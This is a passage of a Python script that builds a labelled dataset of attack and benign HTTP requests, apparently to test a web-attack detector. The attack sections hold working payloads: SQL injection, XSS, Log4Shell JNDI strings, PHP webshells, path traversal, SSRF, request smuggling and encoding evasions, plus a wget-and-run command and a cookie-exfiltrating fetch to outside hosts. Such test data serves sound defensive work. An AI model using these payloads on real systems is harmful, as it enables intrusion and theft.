        ("sqli", "hex-sqli", "id", "1 OR 1=1 UNION SELECT user(),database()"),
        ("xss", "hex-xss", "msg", "<script>alert(document.cookie)</script>"),
        ("lfi", "hex-lfi", "f", "../../../../etc/passwd"),
        ("rce", "hex-rce", "cmd", ";wget http://203.0.113.50/b -O /tmp/b;sh /tmp/b"),
        ("java", "hex-jndi", "ref", "${jndi:ldap://198.51.100.23/h}"),
        ("ssrf", "hex-ssrf", "target", "http://169.254.169.254/latest/meta-data/"),
        ("ssti", "hex-ssti", "tpl", "{{''.__class__.__base__.__subclasses__()}}"),
    ]
    for i, (cat, name, p, pl) in enumerate(hx):
        v = hexs(pl)
        if i % 3 == 1:
            v = "0x" + v
        if i % 2 == 0:
            add("attacks", "%s-%03d" % (name, i + 1), cat, "GET", "/api/decode?%s=%s&enc=hex" % (p, v), "app.example.com")
        else:
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/api/decode", "app.example.com",
                body=js({"encoding": "hex", p: v}), ctype="application/json", browser=False)
    # percent-hex \x escapes inside JSON-ish string (PHP hex2bin / JS unescape style)
    add("attacks", "hex-xescape-xss-008", "xss", "POST", "/api/widgets", "app.example.com",
        body=js({"html": "\\x3cimg src=x onerror=alert(1)\\x3e", "decode": "js"}), ctype="application/json", browser=False)
    du = [
        ("xss", "datauri-html-b64", "/preview?src=" + q("data:text/html;base64," + b64("<script>alert(document.domain)</script>"))),
        ("xss", "datauri-svg", "/avatar/set?url=" + q("data:image/svg+xml;base64," + b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))),
        ("xss", "datauri-html-plain", "/redirect?url=" + q("data:text/html,<script>alert(document.cookie)</script>")),
        ("xss", "datauri-js", "/embed?script=" + q("data:application/javascript;base64," + b64("fetch('//203.0.113.9/'+document.cookie)"))),
        ("php", "datauri-php-include", "/index.php?page=" + q("data://text/plain;base64," + b64("<?php system($_GET['c']); ?>")) + "&c=id"),
        ("rfi", "php-input-include", "/index.php?page=php://input"),
        ("rfi", "rfi-http-include", "/index.php?module=" + q("http://203.0.113.50/shell.txt?")),
        ("rfi", "rfi-ftp-include", "/view.php?lang=" + q("ftp://198.51.100.20/pub/sh.php")),
        ("php", "phar-include", "/image.php?file=" + q("phar:///var/www/uploads/avatar.jpg/test.txt")),
        ("php", "expect-wrapper", "/index.php?page=" + q("expect://id")),
    ]
    for i, (cat, name, uri) in enumerate(du):
        if name == "php-input-include":
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", uri, "legacy.example.com",
                body="<?php echo shell_exec('id'); ?>", ctype="text/plain")
        else:
            add("attacks", "%s-%03d" % (name, i + 1), cat, "GET", uri, "legacy.example.com")
    # data: URI inside JSON (image fetch feature)
    add("attacks", "datauri-json-svg-xss-011", "xss", "POST", "/api/profile/avatar", "app.example.com",
        body=js({"image": "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>"}),
        ctype="application/json", browser=False)


# --- LDAP filters, CRLF, scanners and protocol abuse inside containers
@attack_section
def atk_misc():
    ldap = [
        ("ldap-b64-wildcard", "/directory/search?f=%s" % q(b64("*)(uid=*))(|(uid=*"))),
        ("ldap-json-filter", None),
        ("ldap-form-auth", None),
        ("ldap-cookie-json", None),
        ("ldap-query-objectclass", "/api/people?cn=%s" % q("admin*)(|(objectClass=*)")),
    ]
    for i, (name, uri) in enumerate(ldap):
        nid = "%s-%03d" % (name, i + 1)
        if name == "ldap-json-filter":
            add("attacks", nid, "ldapi", "POST", "/api/directory/query", "idm.example.com",
                body=js({"base": "ou=people,dc=example,dc=com", "filter": "(&(uid=*)(|(userPassword=*)(mail=*)))", "attrs": ["userPassword"]}),
                ctype="application/json", browser=False)
        elif name == "ldap-form-auth":
            add("attacks", nid, "ldapi", "POST", "/login", "idm.example.com",
                body=urlencode({"username": "*)(&", "password": "*)(&"}))
        elif name == "ldap-cookie-json":
            add("attacks", nid, "ldapi", "GET", "/me", "idm.example.com",
                extra=[("Cookie", "ctx=" + q(js({"uid": "jdoe)(memberOf=cn=admins,ou=groups,dc=example,dc=com"})))])
        else:
            add("attacks", nid, "ldapi", "GET", uri, "idm.example.com")
    crlf = [
        ("crlf-b64-next", "/go?next=%s" % q(b64("/home\r\nSet-Cookie: sid=attacker; Path=/"))),
        ("crlf-json-header", None),
        ("crlf-state-location", "/oauth/cb?code=x&state=%s" % q(js({"r": "/\r\nLocation: http://203.0.113.9/"}))),
        ("crlf-lang-cookie", "/setlang?lang=en%0d%0aSet-Cookie:%20admin=1%0d%0a%0d%0a<script>alert(1)</script>"),
        ("crlf-unicode", "/redirect?u=%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ]
    for i, (name, uri) in enumerate(crlf):
        nid = "%s-%03d" % (name, i + 1)
        if uri is None:
            add("attacks", nid, "crlf", "POST", "/api/export", "app.example.com",
                body=js({"filename": "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"}),
                ctype="application/json", browser=False)
        else:
            add("attacks", nid, "crlf", "GET", uri, "app.example.com")
    scan = [
        ("scanner-sqlmap-b64", "GET", "/api/data?d=%s" % q(b64("1) AND 8412=8412 AND (9031=9031")), "sqlmap/1.8.3#stable (https://sqlmap.org)"),
        ("scanner-nuclei-jwt", "GET", "/api/v1/admin", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.102 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ("scanner-env-probe", "GET", "/.env", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("scanner-git-config", "GET", "/.git/config", "Mozilla/5.0 zgrab/0.x"),
        ("scanner-actuator-env", "GET", "/actuator/env", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ("scanner-graphql-probe", "POST", "/graphql", "Fuzz Faster U Fool v2.1.0"),
    ]
    for i, (name, m, uri, ua) in enumerate(scan):
        nid = "%s-%03d" % (name, i + 1)
        if m == "POST":
            add("attacks", nid, "scanner", m, uri, "api.example.com", ua=ua,
                body=js({"query": "{__typename}"}), ctype="application/json")
        elif name == "scanner-nuclei-jwt":
            add("attacks", nid, "scanner", m, uri, "api.example.com", ua=ua,
                extra=[("Authorization", "Bearer " + jwt({"sub": "admin", "role": "admin"}, alg="none"))])
        else:
            add("attacks", nid, "scanner", m, uri, "www.example.com", ua=ua)


def add_raw_bytes(mode, name, category, method, uri, host, header_lines, data):
    expect = "detect" if mode == "attacks" else "pass"
    lines = ["%s %s HTTP/1.1" % (method, uri), "Host: " + host] + header_lines
    lines += ["Content-Length: %d" % len(data), "", ""]
    raw = "\r\n".join(lines).encode("utf-8") + data
    rec = {"id": _id(mode, name), "set": SET, "category": category, "expect": expect,
           "raw_b64": base64.b64encode(raw).decode("ascii")}
    OUT.append(rec)
    return rec


# --- charset / transfer wrappers that a back end unwraps (EBCDIC, UTF-16, UTF-7, chunked)
@attack_section
def atk_charset_protocol():
    ua = "python-requests/2.32.3"
    body = urlencode({"id": "1' UNION SELECT username,password FROM users--", "x": "1"})
    add_raw_bytes("attacks", "charset-ibm037-form-sqli-001", "sqli", "POST", "/api/lookup", "app.example.com",
                  ["User-Agent: " + ua, "Accept: */*",
                   "Content-Type: application/x-www-form-urlencoded; charset=ibm037"], body.encode("cp037"))
    jbody = js({"comment": "<script>alert(document.domain)</script>", "postId": 7})
    add_raw_bytes("attacks", "charset-utf16le-json-xss-002", "xss", "POST", "/api/comments", "app.example.com",
                  ["User-Agent: " + ua, "Accept: application/json",
                   "Content-Type: application/json; charset=utf-16le"], jbody.encode("utf-16-le"))
    add("attacks", "charset-utf7-form-xss-003", "xss", "POST", "/guestbook", "legacy.example.com",
        body="name=x&msg=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
        ctype="application/x-www-form-urlencoded; charset=utf-7")
    smuggled = "0\r\n\r\nGET /admin/users/delete?id=1 HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X"
    add("attacks", "protocol-clte-smuggle-004", "protocol", "POST", "/api/search", "app.example.com",
        body=smuggled, ctype="application/x-www-form-urlencoded", extra=[("Transfer-Encoding", "chunked")])
    smuggled2 = "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    add("attacks", "protocol-te-obfuscated-005", "protocol", "POST", "/", "app.example.com",
        body=smuggled2, ctype="application/x-www-form-urlencoded",
        extra=[("Transfer-Encoding", "chunked"), ("Transfer-encoding", "x")])
    # multipart: filename* parameter and a duplicated filename to slip a PHP extension through
    bnd = boundary()
    mp = ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"avatar.jpg\"; filename*=UTF-8''avatar.php\r\n"
          "Content-Type: image/jpeg\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--%s--\r\n") % (
        bnd, b64("\xff\xd8\xff\xe0<?php echo `$_GET[c]`; ?>"), bnd)
    add("attacks", "multipart-filename-star-php-006", "php", "POST", "/profile/avatar", "app.example.com",
        body=mp, ctype="multipart/form-data; boundary=" + bnd)
    # base64 line-wrapped (MIME style) and double base64
    wrapped = b64("../../../../../../../etc/passwd\x00.png")
    wrapped = wrapped[:20] + "\n" + wrapped[20:]
    add("attacks", "b64-linewrapped-lfi-nullbyte-007", "lfi", "POST", "/api/thumbnail", "app.example.com",
        body=urlencode({"src_b64": wrapped, "w": "64"}))
    add("attacks", "b64-double-sqli-008", "sqli", "GET",
        "/api/report?cfg=%s" % q(b64(b64("region=1 AND 1=(SELECT COUNT(*) FROM pg_shadow)"))), "app.example.com")
    add("attacks", "b64url-in-path-lfi-009", "lfi", "GET",
        "/files/v1/%s/download" % b64url("../../../../../etc/passwd"), "cdn.example.com")
    add("attacks", "b64-cookie-json-admin-sqli-010", "sqli", "GET", "/dashboard", "app.example.com",
        extra=[("Cookie", "user=%s" % b64(js({"id": "1 OR 1=1", "name": "guest"})))])
    add("attacks", "b64-header-xforwarded-jndi-011", "java", "GET", "/health", "app.example.com",
        extra=[("X-Request-Context", b64(js({"trace": "${jndi:ldap://203.0.113.77:1389/ctx}"})))])
    add("attacks", "b64-zlib-param-xss-012", "xss", "GET",
        "/share?d=%s" % b64url(zlib.compress(js({"title": "<script>alert(document.cookie)</script>"}).encode())),
        "app.example.com")


# ================================================================ BENIGN
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7", "es-ES,es;q=0.9",
         "pt-BR,pt;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9,en;q=0.8", "zh-CN,zh;q=0.9", "pl-PL,pl;q=0.9,en;q=0.6",
         "nl-NL,nl;q=0.9,en;q=0.8", "tr-TR,tr;q=0.9,en;q=0.8", "ko-KR,ko;q=0.9", "it-IT,it;q=0.9,en;q=0.5"]


def bx(host, referer_path="/", cookie=None, more=None):
    """Typical browser header extras."""
    h = [("Accept-Language", RNG.choice(LANGS)), ("Accept-Encoding", "gzip, deflate, br, zstd"),
         ("Referer", "https://%s%s" % (host, referer_path))]
    if cookie:
        h.append(("Cookie", cookie))
    if more:
        h += more
    return h


def ga_cookie():
    return "_ga=GA1.1.%d.%d; _ga_%s=GS1.1.%d.%d.1.1.%d.0.0.0" % (
        RNG.randint(10**8, 2 * 10**9), repoch(), ralnum(10).upper(), repoch(), RNG.randint(3, 90), repoch())


NAMES = ["Siobhan O'Brien", "José García", "Zoë Müller", "Łukasz Wiśniewski", "Ngozi Okafor", "田中 花子",
         "Søren Kierkegaard-Hansen", "Anne-Marie D'Souza", "Mehmet Yılmaz", "Priya Raghunathan", "Jean-Luc Picard",
         "김민준", "Fatima Al-Zahra", "Björn Þórsson", "Chloé Lefèvre", "Daniel O'Connor"]
TEXTS = [
    "Great product, arrived two days early. Would order again!",
    "Die Lieferung war schnell, aber die Verpackung war beschädigt. Bitte um Rückmeldung.",
    "Merci pour votre aide, le problème est résolu.",
    "¿Podrían enviarme la factura con el NIF correcto? Gracias.",
    "配送がとても早かったです。また利用します。",
    "Produto excelente, recomendo! Só achei o preço um pouco alto.",
    "Can you please select a different delivery slot for order #48213? I'm away on Friday & Saturday.",
    "Zamówienie dotarło w komplecie, dziękuję!",
    "Het werkt prima, alleen de handleiding is alleen in het Engels.",
    "Ürün açıklamada yazdığı gibi, teşekkürler.",
    "I'd like to update my billing address -- we moved to 12 Rue de l'Église.",
    "商品质量很好，物流也很快。",
    "Re: your question about \"union\" membership fees -- please see the attached table (select the 2024 tab).",
]


# --- benign base64 / base64url parameters and cookies
@benign_section
def ben_base64():
    for i in range(10):
        cur = js({"id": RNG.randint(1000, 99999), "created_at": rts(), "dir": RNG.choice(["next", "prev"])})
        add("benign", "b64-cursor-pagination-%03d" % (i + 1), "benign", "GET",
            "/api/v2/orders?limit=%d&cursor=%s" % (RNG.choice([20, 25, 50, 100]), b64url(cur)),
            "api.example.com", browser=False, extra=[("Authorization", "Bearer " + ralnum(40))])
    for i in range(6):
        st = js({"tab": RNG.choice(["overview", "billing", "team", "integrations"]),
                 "filters": {"from": "2024-0%d-01" % RNG.randint(1, 9), "to": "2024-12-31",
                             "status": RNG.sample(["open", "closed", "pending", "draft"], 2)},
                 "sort": {"field": "updated_at", "order": "desc"}, "v": 2})
        add("benign", "b64-view-state-query-%03d" % (i + 1), "benign", "GET",
            "/app/dashboard?state=%s" % b64url(st), "app.example.com", extra=bx("app.example.com", "/app"))
    for i in range(5):
        iv = b64(bytes(RNG.getrandbits(8) for _ in range(16)))
        val = b64(bytes(RNG.getrandbits(8) for _ in range(48)))
        lar = b64(js({"iv": iv, "value": val, "mac": rhex(64), "tag": ""}))
        add("benign", "b64-laravel-encrypted-cookie-%03d" % (i + 1), "benign", "GET",
            RNG.choice(["/account", "/cart", "/checkout/shipping", "/orders/%d" % RNG.randint(1000, 9999)]),
            "shop.example.net", extra=bx("shop.example.net", "/", "XSRF-TOKEN=%s; laravel_session=%s" % (q(lar), q(b64(js({"iv": iv, "value": b64(bytes(RNG.getrandbits(8) for _ in range(64))), "mac": rhex(64), "tag": ""}))))))
    for i in range(4):
        vs = "/wEPDwUKMTY1NDU2MTA1MmRk" + b64(bytes(RNG.getrandbits(8) for _ in range(RNG.randint(60, 200))))
        body = urlencode({"__EVENTTARGET": "", "__EVENTARGUMENT": "", "__VIEWSTATE": vs,
                          "__VIEWSTATEGENERATOR": rhex(8).upper(),
                          "__EVENTVALIDATION": "/wEdAAV" + b64(bytes(RNG.getrandbits(8) for _ in range(60))),
                          "ctl00$MainContent$txtSearch": RNG.choice(["invoice 2024", "Müller GmbH", "PO-88213"]),
                          "ctl00$MainContent$btnSearch": "Search"})
        add("benign", "b64-aspnet-viewstate-%03d" % (i + 1), "benign", "POST", "/Orders/Search.aspx",
            "erp.example.com", body=body, extra=bx("erp.example.com", "/Orders/Search.aspx"))
    for i in range(4):
        sess = b64url(zlib.compress(js({"_fresh": True, "_id": rhex(128), "user_id": str(RNG.randint(1, 9999)), "csrf_token": rhex(40)}).encode()))
        flask = ".%s.%s.%s" % (sess, b64url(bytes(RNG.getrandbits(8) for _ in range(4))), b64url(bytes(RNG.getrandbits(8) for _ in range(20))))
        add("benign", "b64-flask-session-cookie-%03d" % (i + 1), "benign", "GET", RNG.choice(["/notebooks", "/reports/weekly", "/"]),
            "tools.example.org", extra=bx("tools.example.org", "/", "session=" + flask))
    tcf = ["CQBxYQAQBxYQAAHABBENA_FgAAAAAAAAAAiQAAAAAAAA", "CPz4xEAPz4xEAAHABBENDeCsAP_AAH_AAAAAIzNd_X__bX9j-_5_6ft0eY1f9_r3ruQzDhfNs-8F3L_W_LwX32E7NF36tq4KmR4ku1bBIQNtHMnUDUmxaolVrzHsak2cpyNKJ_JkknsZe2dYGF9Pn9lD-YKZ7_5_9_f52T_9_9_-39z3_9f___dv_-__-vjf_599n_v9fV_78_Kf9______-____________8A"]
    for i, t in enumerate(tcf):
        add("benign", "b64-consent-tcf-cookie-%03d" % (i + 1), "benign", "GET", "/news/2024/elections-live",
            "news.example.org", extra=bx("news.example.org", "/", "euconsent-v2=%s; OptanonConsent=%s; %s" % (
                t, q("isGpcEnabled=0&datestamp=Tue+Jun+04+2024+10:12:31+GMT+0200&version=202405.1.0&groups=C0001:1,C0002:1,C0003:0,C0004:0&AwaitingReconsent=false"), ga_cookie())))
    for i in range(5):
        filt = js({"category": RNG.choice(["shoes", "jackets", "Kleider", "électronique"]),
                   "price": [RNG.randint(0, 50), RNG.randint(100, 500)], "size": RNG.sample(["S", "M", "L", "XL", "42", "43"], 2),
                   "inStock": True})
        add("benign", "b64-filter-param-%03d" % (i + 1), "benign", "GET",
            "/catalog?filter=%s&sort=price_asc" % q(b64(filt)), "shop.example.net", extra=bx("shop.example.net", "/catalog"))
    for i in range(4):
        ref = "https://www.example.org/%s?utm_source=newsletter&utm_campaign=%s" % (
            RNG.choice(["pricing", "blog/scaling-postgres", "docs/getting-started", "de/karriere"]), RNG.choice(["june24", "spring-sale"]))
        add("benign", "b64-tracking-redirect-%03d" % (i + 1), "benign", "GET",
            "/c/%s?u=%s&e=%s" % (ralnum(12), b64url(ref), b64url("%s@example.com" % RNG.choice(["anna.k", "j.smith", "m.dubois"]))),
            "links.example.com")


# --- benign JWTs of real shapes, OAuth / OIDC flows, SAML
@benign_section
def ben_jwt_oauth():
    issuers = [
        ("https://auth.example.com/realms/acme", "RS256", lambda sub: {"realm_access": {"roles": ["offline_access", "uma_authorization", "sales"]},
                                                                        "resource_access": {"portal": {"roles": ["viewer"]}}, "preferred_username": sub[:8], "scope": "openid profile email", "sid": ruuid(), "typ": "Bearer", "azp": "portal"}),
        ("https://example.eu.auth0.com/", "RS256", lambda sub: {"scope": "read:orders write:orders offline_access", "gty": "password", "permissions": ["read:orders", "write:orders"], "azp": ralnum(32)}),
        ("https://securetoken.google.com/example-app-prod", "RS256", lambda sub: {"auth_time": repoch(), "user_id": sub, "firebase": {"identities": {"email": ["user@example.com"]}, "sign_in_provider": "password"}, "email_verified": True}),
        ("https://login.example.net/0f3c1a2b-tenant/v2.0", "RS256", lambda sub: {"name": RNG.choice(NAMES), "oid": ruuid(), "tid": ruuid(), "ver": "2.0", "scp": "User.Read Files.ReadWrite", "uti": ralnum(22)}),
        ("https://api.example.com", "HS256", lambda sub: {"uid": RNG.randint(1, 99999), "role": RNG.choice(["customer", "editor", "support"]), "jti": ruuid()}),
        ("https://cognito-idp.eu-west-1.example.com/eu-west-1_AbC123", "RS256", lambda sub: {"token_use": "access", "client_id": ralnum(26).lower(), "username": sub, "cognito:groups": ["Operators"], "event_id": ruuid()}),
    ]
    for i in range(24):
        iss, alg, claims = issuers[i % len(issuers)]
        sub = ruuid() if i % 2 else "auth0|" + rhex(24)
        iat = repoch()
        p = {"iss": iss, "sub": sub, "aud": RNG.choice(["portal", "https://api.example.com", "account"]), "iat": iat, "exp": iat + 3600}
        p.update(claims(sub))
        tok = jwt(p, alg=alg, header_extra={"kid": ralnum(43)} if alg == "RS256" else None)
        where = i % 4
        nid = "jwt-%s-%03d" % (["bearer-api", "cookie", "bearer-mobile", "graphql-ws"][where], i + 1)
        if where == 0:
            add("benign", nid, "benign", "GET", RNG.choice(["/api/v1/me", "/api/v1/orders?status=open&limit=20", "/api/v1/projects/%d/members" % RNG.randint(1, 500)]),
                "api.example.com", browser=False, extra=[("Authorization", "Bearer " + tok), ("X-Request-ID", ruuid())])
        elif where == 1:
            add("benign", nid, "benign", "GET", "/account/settings", "www.example.com",
                extra=bx("www.example.com", "/account", "access_token=%s; %s" % (tok, ga_cookie())))
        elif where == 2:
            add("benign", nid, "benign", "GET", "/mobile/v3/feed?since=%d" % repoch(), "api.example.com",
                ua=RNG.choice(API_UAS[6:]), extra=[("Authorization", "Bearer " + tok), ("X-App-Version", "5.12.0")])
        else:
            add("benign", nid, "benign", "POST", "/graphql", "api.example.com", browser=False,
                body=js({"query": "query Viewer { viewer { id name avatarUrl } }", "operationName": "Viewer", "variables": {}}),
                ctype="application/json", extra=[("Authorization", "Bearer " + tok)])
    # token endpoint traffic
    for i in range(6):
        kind = i % 3
        if kind == 0:
            body = urlencode({"grant_type": "authorization_code", "code": ralnum(43), "redirect_uri": "https://app.example.com/callback",
                              "client_id": "webapp", "code_verifier": b64url(bytes(RNG.getrandbits(8) for _ in range(32)))})
        elif kind == 1:
            body = urlencode({"grant_type": "refresh_token", "refresh_token": jwt({"typ": "Refresh", "sid": ruuid(), "iat": repoch()}, "HS256"), "client_id": "portal"})
        else:
            ca = jwt({"iss": "svc-billing", "sub": "svc-billing", "aud": "https://auth.example.com/oauth2/token", "jti": ruuid(), "exp": repoch()}, "RS256")
            body = urlencode({"grant_type": "client_credentials", "scope": "invoices.read invoices.write",
                              "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer", "client_assertion": ca})
        add("benign", "oauth-token-request-%03d" % (i + 1), "benign", "POST", "/oauth2/token", "auth.example.com", body=body, browser=False)
    for i in range(8):
        state = b64url(js({"returnTo": RNG.choice(["/dashboard", "/settings/billing?tab=invoices", "/projects/42/board", "/de/konto"]),
                           "nonce": rhex(16), "ts": repoch()}))
        if i % 2 == 0:
            uri = "/authorize?" + urlencode({"response_type": "code", "client_id": "webapp", "redirect_uri": "https://app.example.com/callback",
                                             "scope": "openid profile email offline_access", "state": state, "nonce": ralnum(22),
                                             "code_challenge": b64url(hashlib.sha256(rhex(16).encode()).digest()), "code_challenge_method": "S256",
                                             "ui_locales": RNG.choice(["en", "de", "fr-CA", "ja"])})
            add("benign", "oauth-authorize-%03d" % (i + 1), "benign", "GET", uri, "auth.example.com")
        else:
            add("benign", "oauth-callback-%03d" % (i + 1), "benign", "GET",
                "/callback?code=%s&state=%s&session_state=%s" % (ralnum(40), state, ruuid() + "." + ralnum(6)), "app.example.com",
                extra=bx("auth.example.com", "/login", "oauth_state=" + state))
    # Google-style callback with encoded scope list
    add("benign", "oauth-google-callback-001", "benign", "GET",
        "/auth/google/callback?state=%s&code=4%%2F0AQlEd8x%s&scope=email%%20profile%%20openid%%20https%%3A%%2F%%2Fwww.googleapis.com%%2Fauth%%2Fuserinfo.email&authuser=0&hd=example.com&prompt=consent" % (rhex(32), ralnum(50)),
        "app.example.com")
    for i in range(4):
        now = rts()
        resp = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
                'ID="_%s" Version="2.0" IssueInstant="%s" Destination="https://app.example.com/saml/acs" InResponseTo="_%s">'
                '<saml:Issuer>https://idp.example.org/adfs/services/trust</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
                '<saml:Assertion ID="_%s" IssueInstant="%s" Version="2.0"><saml:Issuer>https://idp.example.org/adfs/services/trust</saml:Issuer>'
                '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
                '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/></ds:SignedInfo><ds:SignatureValue>%s</ds:SignatureValue></ds:Signature>'
                '<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">%s@example.org</saml:NameID></saml:Subject>'
                '<saml:AttributeStatement><saml:Attribute Name="displayName"><saml:AttributeValue>%s</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>'
                '</saml:Assertion></samlp:Response>') % (rhex(32), now, rhex(32), rhex(32), now, b64(bytes(RNG.getrandbits(8) for _ in range(256))),
                                                         RNG.choice(["s.obrien", "j.garcia", "m.yilmaz"]), RNG.choice(NAMES).replace("'", "&apos;"))
        add("benign", "saml-response-post-%03d" % (i + 1), "benign", "POST", "/saml/acs", "app.example.com",
            body=urlencode({"SAMLResponse": b64(resp), "RelayState": RNG.choice(["/", "https://app.example.com/reports?id=12", ralnum(20)])}),
            extra=bx("idp.example.org", "/adfs/ls/"))
    req_xml = ('<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="%s" '
               'AssertionConsumerServiceURL="https://app.example.com/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.example.com</saml:Issuer></samlp:AuthnRequest>') % (rhex(32), rts())
    add("benign", "saml-request-redirect-001", "benign", "GET",
        "/adfs/ls/?SAMLRequest=%s&RelayState=%s&SigAlg=%s&Signature=%s" % (
            q(base64.b64encode(zlib.compress(req_xml.encode())[2:-4]).decode()), q("/projects"),
            q("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"), q(b64(bytes(RNG.getrandbits(8) for _ in range(256))))),
        "idp.example.org")


# --- JSON in query strings, form fields and cookies (headless CMS / BaaS clients)
@benign_section
def ben_json_query():
    strapi = [
        "filters[title][$containsi]=%s&sort[0]=publishedAt:desc&pagination[page]=1&pagination[pageSize]=12&populate[0]=cover" % q("säule"),
        "filters[$or][0][slug][$eq]=summer-sale&filters[$or][1][slug][$eq]=sommer-angebot&locale=de",
        "filters[price][$gte]=10&filters[price][$lte]=99.5&filters[category][name][$in][0]=books&filters[category][name][$in][1]=ebooks",
        "filters[author][email][$endsWith]=%s&fields[0]=title&fields[1]=updatedAt" % q("@example.org"),
        "filters[publishedAt][$notNull]=true&filters[tags][name][$ne]=draft&populate=*",
    ]
    for i, qs in enumerate(strapi):
        add("benign", "strapi-filters-query-%03d" % (i + 1), "benign", "GET", "/api/articles?" + qs, "cms.example.com",
            browser=False, extra=[("Authorization", "Bearer " + rhex(64))])
    directus = [
        {"status": {"_eq": "published"}, "date_published": {"_lte": "$NOW"}},
        {"_and": [{"category": {"_in": ["news", "events"]}}, {"title": {"_icontains": "Café"}}]},
        {"author": {"email": {"_ends_with": "@example.com"}}, "tags": {"_contains": "release"}},
        {"_or": [{"stock": {"_lt": 5}}, {"discontinued": {"_eq": True}}]},
    ]
    for i, f in enumerate(directus):
        add("benign", "directus-filter-json-%03d" % (i + 1), "benign", "GET",
            "/items/posts?filter=%s&fields=*,author.first_name&sort=-date_published&limit=25" % q(js(f)), "cms.example.com",
            extra=bx("cms.example.com", "/admin/content/posts"))
    parse = [
        ("where", {"score": {"$gt": 1000}, "playerName": {"$nin": ["Jonathan Walsh", "Dario Wunsch"]}}),
        ("where", {"createdAt": {"$gte": {"__type": "Date", "iso": "2024-05-01T00:00:00.000Z"}}, "status": "active"}),
        ("filter", {"where": {"and": [{"price": {"gt": 10}}, {"name": {"like": "%shirt%"}}]}, "limit": 10, "order": "price DESC"}),
        ("filter", {"where": {"email": {"inq": ["a@example.com", "b@example.com"]}}, "include": ["orders"]}),
        ("q", {"$and": [{"region": "EMEA"}, {"revenue": {"$gte": 250000}}]}),
    ]
    for i, (pn, f) in enumerate(parse):
        add("benign", "baas-json-where-%03d" % (i + 1), "benign", "GET",
            "/parse/classes/GameScore?%s=%s&limit=50&order=-score" % (pn, q(js(f))) if pn == "where" else
            "/api/products?%s=%s" % (pn, q(js(f))), "api.example.com", browser=False,
            extra=[("X-Parse-Application-Id", rhex(20))] if pn == "where" else None)
    es = [
        {"query": {"bool": {"must": [{"match": {"message": "connection refused"}}], "filter": [{"range": {"@timestamp": {"gte": "now-15m"}}}]}}, "size": 50},
        {"query": {"multi_match": {"query": "wireless headphones", "fields": ["title^3", "description"]}}, "aggs": {"brands": {"terms": {"field": "brand.keyword", "size": 10}}}},
        {"query": {"query_string": {"query": "status:500 AND path:\\/api\\/checkout*", "default_field": "message"}}, "sort": [{"@timestamp": "desc"}]},
        {"size": 0, "aggs": {"per_day": {"date_histogram": {"field": "created", "calendar_interval": "1d"}, "aggs": {"revenue": {"sum": {"field": "total"}}}}}},
    ]
    for i, d in enumerate(es):
        if i % 2:
            add("benign", "es-search-body-%03d" % (i + 1), "benign", "POST", "/logs-*/_search?track_total_hits=true", "search.example.com",
                body=js(d), ctype="application/json", ua="elasticsearch-js/8.13.1 (linux 6.1.0-amd64-x64; Node.js 20.12.2)")
        else:
            add("benign", "es-search-source-param-%03d" % (i + 1), "benign", "GET",
                "/products/_search?source=%s&source_content_type=application/json" % q(js(d)), "search.example.com",
                ua="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36")
    hasura = [
        ("query Orders($where: orders_bool_exp!) { orders(where: $where, order_by: {created_at: desc}, limit: 20) { id total status } }",
         {"where": {"_and": [{"status": {"_in": ["paid", "shipped"]}}, {"customer": {"name": {"_ilike": "%o'brien%"}}}]}}),
        ("mutation Ins($objects: [tickets_insert_input!]!) { insert_tickets(objects: $objects) { affected_rows } }",
         {"objects": [{"subject": "Login issue", "body": "I can't log in since this morning; it says 'invalid grant'.", "priority": 2}]}),
        ("query Search($q: String!) { products(where: {name: {_ilike: $q}}) { id name } }", {"q": "%café%"}),
    ]
    for i, (qry, v) in enumerate(hasura):
        add("benign", "hasura-graphql-vars-%03d" % (i + 1), "benign", "POST", "/v1/graphql", "hasura.example.com",
            body=js({"query": qry, "variables": v}), ctype="application/json", browser=False,
            extra=[("x-hasura-role", "user"), ("Authorization", "Bearer " + jwt({"sub": ruuid(), "https://hasura.io/jwt/claims": {"x-hasura-allowed-roles": ["user"], "x-hasura-default-role": "user", "x-hasura-user-id": str(RNG.randint(1, 9999))}}, "RS256"))])
    # JSON in form fields and cookies
    forms = [
